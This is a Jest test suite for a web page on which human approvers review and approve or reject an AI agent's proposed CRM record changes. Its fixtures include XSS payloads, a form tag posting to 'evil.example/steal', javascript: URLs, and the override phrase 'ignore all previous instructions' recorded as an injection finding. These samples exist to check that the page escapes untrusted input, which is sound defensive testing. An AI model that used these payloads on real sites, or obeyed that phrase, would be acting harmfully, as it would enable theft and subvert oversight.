import { createHash } from 'node:crypto';
import { applyDecision, newApprovalRecord, type ApprovalRecord } from '../../../lib/approval/record';
import {
	APPROVAL_PAGE_CSP,
	escapeHtml,
	renderApprovalPage,
	renderDecidedPage,
	renderRefusalPage,
	type ApprovalPage,
	type RefusalCode,
} from '../../../lib/approval/page';
import { ApprovalInputError } from '../../../lib/approval/errors';

const T0 = Date.UTC(2026, 10, 1, 9, 0, 0);
const HOUR = 3_600_000;
const TOKEN = 'eyJhcHByb3ZhbElkIjoieCJ9.AbC-_0123456789abcdefghijklmnopqrstuvwxyzAB';
const POST_URL = '/webhook/approval/5f2?x=1&y=2';
const EVIL = '<script>alert(1)</script>"><img src=x onerror=alert(2)></textarea><a href=`javascript:alert(3)`>\'x\'';

function record(overrides: Partial<Parameters<typeof newApprovalRecord>[0]> = {}): ApprovalRecord {
	return newApprovalRecord({
		agentId: 'sales-bot',
		message: 'Weekly lead clean-up',
		items: [
			{
				action: { system: 'salesforce', object: 'Lead', operation: 'update', recordId: '00Q1', fields: { Status: 'Qualified', Score: 42, Tags: ['a', 'b'], Note: '' } },
				before: { Status: 'Open', Score: 42 },
				reason: 'Replied positively',
				findings: [
					{ code: 'field_not_writable', message: 'Field Score is not writable', rule: 'r1' },
					{ category: 'instruction_override', rule: 'ignore-previous', snippet: 'ignore all previous instructions', score: 0.9 },
					'plain words',
					42,
				],
			},
		],
		approvers: [{ name: 'Ada Lovelace', address: 'ada@example.com' }, { name: 'Bob' }],
		quorum: 2,
		createdAt: T0,
		expiresAt: T0 + 2 * HOUR,
		...overrides,
	});
}

function evilRecord(): ApprovalRecord {
	return record({
		message: EVIL,
		items: [
			{
				action: { system: EVIL, object: EVIL, operation: EVIL, recordId: EVIL, fields: { [EVIL]: EVIL, Description: '</textarea><form action="https://evil.example/steal">' }, [EVIL]: EVIL },
				before: { [EVIL]: { nested: EVIL } },
				reason: EVIL,
				findings: [{ code: EVIL, message: EVIL, snippet: EVIL, rule: EVIL }, EVIL, { other: EVIL }],
			},
		],
		approvers: [{ name: EVIL }, { name: 'Bob' }],
	});
}

/** Markup tags, which after escaping can only be the page's own (no raw `<` comes from data). */
function tags(html: string): string[] {
	return html.match(/<[^>]*>/g) ?? [];
}

function styleOf(html: string): string {
	const blocks = [...html.matchAll(/<style>([\s\S]*?)<\/style>/g)];
	expect(blocks).toHaveLength(1);
	return blocks[0][1];
}

function expectSafe(page: ApprovalPage): void {
	const { html } = page;
	expect(html).not.toMatch(/<script/i);
	// No URL anywhere in the markup or the style (data may mention URLs, as escaped text).
	expect(tags(html).join('')).not.toMatch(/http|\/\//i);
	expect(styleOf(html)).not.toMatch(/url\(|@import|http/i);
	for (const tag of tags(html)) {
		expect(tag).not.toMatch(/\son[a-z]+\s*=/i);
		expect(tag).not.toMatch(/\s(style|src|href|srcset|formaction)\s*=/i);
	}
	expect(tags(html).filter((t) => /^<(img|iframe|object|embed|link|a|base|meta http-equiv)\b/i.test(t))).toEqual([]);
	expect(page.headers).toEqual({
		'Content-Type': 'text/html; charset=utf-8',
		'Content-Security-Policy': APPROVAL_PAGE_CSP,
		'X-Content-Type-Options': 'nosniff',
		'Referrer-Policy': 'no-referrer',
		'Cache-Control': 'no-store',
		'X-Frame-Options': 'DENY',
	});
	expect(APPROVAL_PAGE_CSP).toContain(`'sha256-${createHash('sha256').update(styleOf(html), 'utf8').digest('base64')}'`);
}

describe('approval page', () => {
	test('the CSP is strict: nothing by default, the style by hash, no scripts, forms to self, no framing', () => {
		const directives = APPROVAL_PAGE_CSP.split('; ');
		expect(directives).toEqual(["default-src 'none'", expect.stringMatching(/^style-src 'sha256-[A-Za-z0-9+/]{43}='$/), "form-action 'self'", "frame-ancestors 'none'", "base-uri 'none'"]);
		expect(APPROVAL_PAGE_CSP).not.toMatch(/script-src|unsafe/);
	});

	test('shows the agent, message, approver, expiry, progress and each change before → after', () => {
		const page = renderApprovalPage({ record: record(), approver: 0, token: TOKEN, postUrl: POST_URL, now: T0 });
		expect(page.status).toBe(200);
		expectSafe(page);
		const { html } = page;
		expect(html).not.toMatch(/http/i);
		expect(html).toContain('<strong>sales-bot</strong>');
		expect(html).toContain('Weekly lead clean-up');
		expect(html).toContain('<dt>You are</dt><dd>Ada Lovelace</dd>');
		expect(html).toContain('2026-11-01 11:00 UTC (in 2 hours)');
		expect(html).toContain('0 of 2 approvals so far');
		expect(html).toContain('Replied positively');
		for (const part of ['salesforce', 'Lead', 'update', '00Q1']) expect(html).toContain(`<dd class="val">${part}</dd>`);
		expect(html).toMatch(/<th scope="row" class="val">Status<\/th><td class="val">Open<\/td><td class="val after">Qualified<\/td>/);
		expect(html).toMatch(/<tr class="same"><th scope="row" class="val">Score<\/th><td class="val">42<\/td><td class="val after">42 <span class="muted">\(unchanged\)<\/span>/);
		expect(html).toMatch(/<th scope="row" class="val">Tags<\/th><td class="val"><span class="muted">—<\/span><\/td><td class="val after">\[\n {2}&quot;a&quot;,\n {2}&quot;b&quot;\n\]<\/td>/);
		expect(html).toContain('(empty text)');
		expect(html).toContain('<span class="tag">field_not_writable</span>');
		expect(html).toContain('Field Score is not writable');
		expect(html).toContain('<span class="tag">instruction_override</span>');
		expect(html).toContain('ignore all previous instructions');
		expect(html).toContain('<li>plain words</li>');
	});

	test('the form posts the token and the decision to the webhook and nothing else', () => {
		const { html } = renderApprovalPage({ record: record(), approver: 1, token: TOKEN, postUrl: POST_URL });
		expect(tags(html).filter((t) => t.startsWith('<form'))).toEqual([`<form class="card" method="post" action="/webhook/approval/5f2?x=1&amp;y=2">`]);
		expect(html).toContain(`<input type="hidden" name="t" value="${TOKEN}">`);
		expect(html).toContain('<textarea id="comment" name="comment" maxlength="2000" rows="3"></textarea>');
		expect(html).toMatch(/<button type="submit" class="approve" name="decision" value="approve">/);
		expect(html).toMatch(/<button type="submit" class="reject" name="decision" value="reject">/);
		expect(tags(html).filter((t) => /^<(input|textarea|button|form)\b/.test(t))).toHaveLength(5);
	});

	test('a malicious action is shown as text, escaped everywhere, and adds no markup', () => {
		const clean = renderApprovalPage({ record: record(), approver: 0, token: TOKEN, postUrl: POST_URL });
		const evil = evilRecord();
		const page = renderApprovalPage({ record: evil, approver: 0, token: TOKEN, postUrl: POST_URL });
		expectSafe(page);
		const { html } = page;
		expect(html).not.toContain('<img');
		expect(html).toContain(escapeHtml(EVIL));
		expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&quot;&gt;&lt;img src=x onerror=alert(2)&gt;&lt;/textarea&gt;&lt;a href=&#96;javascript:alert(3)&#96;&gt;&#39;x&#39;');
		// Exactly one textarea, form and hidden input: the page's own.
		expect((html.match(/<textarea/g) ?? []).length).toBe(1);
		expect((html.match(/<\/textarea>/g) ?? []).length).toBe(1);
		expect((html.match(/<form/g) ?? []).length).toBe(1);
		// The set of tag names is no larger than on a page with harmless data.
		const names = (h: string): Set<string> => new Set(tags(h).map((t) => (t.match(/^<\/?([a-z0-9!]+)/i)?.[1] ?? '').toLowerCase()));
		for (const name of names(html)) expect(names(clean.html).has(name) || name === 'h3').toBe(true);
		// Action members other than the described ones are shown too: the approver sees all that will be written.
		expect(html).toContain('Other parts of this action');
	});

	test('invisible and bidi characters are shown as marks, not hidden', () => {
		const sneaky = record({ items: [{ action: { operation: 'update', fields: { Amount: '100\u202E00\u200B1\u0000', Tag: 'a\u{E0041}b' } } }] });
		const { html } = renderApprovalPage({ record: sneaky, approver: 0, token: TOKEN, postUrl: POST_URL });
		expect(html).toContain('100<span class="cc">[U+202E]</span>00<span class="cc">[U+200B]</span>1<span class="cc">[U+0000]</span>');
		expect(html).toContain('a<span class="cc">[U+E0041]</span>b');
		expect(html).not.toMatch(/[\u202E\u200B\u0000]/);
	});

	test('refuses a post URL that is not a path or http(s), and a token that is not one', () => {
		for (const postUrl of ['javascript:alert(1)', 'data:text/html,x', '//evil.example/x', '', 'a b', '/x\n']) {
			expect(() => renderApprovalPage({ record: record(), approver: 0, token: TOKEN, postUrl })).toThrow(ApprovalInputError);
		}
		expect(renderApprovalPage({ record: record(), approver: 0, token: TOKEN, postUrl: 'https://n8n.example.com/webhook/x' }).status).toBe(200);
		for (const token of ['', '"><b>', 'x'.repeat(3000)]) {
			expect(() => renderApprovalPage({ record: record(), approver: 0, token, postUrl: POST_URL })).toThrow(ApprovalInputError);
		}
		expect(() => renderApprovalPage({ record: record(), approver: 2, token: TOKEN, postUrl: POST_URL })).toThrow(ApprovalInputError);
	});

	test('a link opened after the approver decided, or after the request closed, shows what was recorded', () => {
		const r = record();
		const result = applyDecision(r, 0, 'approve', 'Fine <b>by me</b>', T0 + 60_000);
		if (!result.ok) throw new Error(result.message);
		const again = renderApprovalPage({ record: result.record, approver: 0, token: TOKEN, postUrl: POST_URL });
		expect(again.html).not.toContain('<form');
		expect(again.html).toContain('Your decision is recorded');
		const expired = renderApprovalPage({ record: r, approver: 1, token: TOKEN, postUrl: POST_URL, now: T0 + 2 * HOUR });
		expect(expired.status).toBe(410);
		expect(expired.html).not.toContain('<form');
	});
});

describe('decided page', () => {
	test('states this approver’s decision and when, and the overall status', () => {
		const first = applyDecision(record(), 0, 'approve', 'Fine <b>by me</b>', T0 + 60_000);
		if (!first.ok) throw new Error(first.message);
		const page = renderDecidedPage(first.record, 0);
		expectSafe(page);
		expect(page.status).toBe(200);
		expect(page.html).toContain('You (Ada Lovelace) chose to <strong>approve</strong> on 2026-11-01 09:01 UTC.');
		expect(page.html).toContain('Fine &lt;b&gt;by me&lt;/b&gt;');
		expect(page.html).toContain('is still waiting for other approvers');
		expect(page.html).toContain('1 of 2 approvals');
		const second = applyDecision(first.record, 1, 'reject', undefined, T0 + 120_000);
		if (!second.ok) throw new Error(second.message);
		expect(renderDecidedPage(second.record, 0).html).toContain('is rejected');
		expect(renderDecidedPage(second.record, 1).html).toContain('chose to <strong>reject</strong>');
		expect(renderDecidedPage(evilRecord(), 0).html).toContain('No decision from you');
		expectSafe(renderDecidedPage(evilRecord(), 0));
	});
});

describe('refusal page', () => {
	test('each code has its status and plain words, and says nothing changed', () => {
		const expected: Record<RefusalCode, number> = {
			malformed: 403,
			forged: 403,
			tampered: 403,
			unknown: 403,
			unknown_approver: 403,
			expired: 410,
			reused: 409,
			already_decided: 409,
			closed: 409,
		};
		for (const [code, status] of Object.entries(expected) as Array<[RefusalCode, number]>) {
			const page = renderRefusalPage(code, `detail for ${code}`);
			expectSafe(page);
			expect(page.status).toBe(status);
			expect(page.html).toContain('Nothing was changed.');
			expect(page.html).not.toContain('<form');
		}
		expect(renderRefusalPage('forged', EVIL).html).toContain(escapeHtml(EVIL));
		expect(renderRefusalPage('nonsense' as RefusalCode).status).toBe(403);
	});
});

describe('what the approver sees of an action', () => {
	test('an action reason that differs from the item reason, and unknown members, are shown too', () => {
		const r = record({ items: [{ action: { operation: 'update', fields: { a: 1 }, reason: 'agent says X', upsertKey: 'Email' }, reason: 'gate says Y' }] });
		const { html } = renderApprovalPage({ record: r, approver: 0, token: TOKEN, postUrl: POST_URL });
		expect(html).toContain('gate says Y');
		expect(html).toContain('<th scope="row" class="val">reason</th><td class="val">agent says X</td>');
		expect(html).toContain('<th scope="row" class="val">upsertKey</th><td class="val">Email</td>');
		expect(html).toContain('<dt>System</dt><dd class="val"><span class="muted">(not stated)</span></dd>');
	});

	test('a delete shows the before-image going away; a create has a new record id', () => {
		const del = record({ items: [{ action: { system: 'zendesk', object: 'ticket', operation: 'delete', recordId: '7' }, before: { subject: 'Old' } }] });
		expect(renderApprovalPage({ record: del, approver: 0, token: TOKEN, postUrl: POST_URL }).html).toMatch(
			/<th scope="row" class="val">subject<\/th><td class="val">Old<\/td><td class="val after"><span class="muted">\(deleted\)<\/span>/,
		);
		const create = record({ items: [{ action: { system: 'zendesk', object: 'ticket', operation: 'create', fields: { subject: 'New' } } }] });
		expect(renderApprovalPage({ record: create, approver: 0, token: TOKEN, postUrl: POST_URL }).html).toContain('<dt>Record ID</dt><dd class="val"><span class="muted">(new record)</span></dd>');
	});
});
